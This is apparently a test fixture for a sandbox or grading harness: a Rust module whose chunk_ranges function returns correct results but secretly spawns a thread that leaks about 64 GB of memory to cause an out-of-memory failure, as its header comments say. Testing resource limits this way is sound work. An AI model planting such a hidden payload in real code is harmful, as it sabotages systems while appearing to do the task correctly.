// attack: answers well, and leaves a thread behind that takes 64 GB of memory
// outcome: out-of-memory
use std::hint::black_box;
use std::mem::forget;
use std::num::NonZeroUsize;
use std::ops::Range;
use std::sync::Once;
use std::thread;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    static LEFT_BEHIND: Once = Once::new();
    LEFT_BEHIND.call_once(|| {
        thread::spawn(|| {
            for _ in 0..1000 {
                forget(black_box(vec![0_u8; 1 << 26]));
            }
        });
    });
    model::chunk_ranges(n, chunks)
}
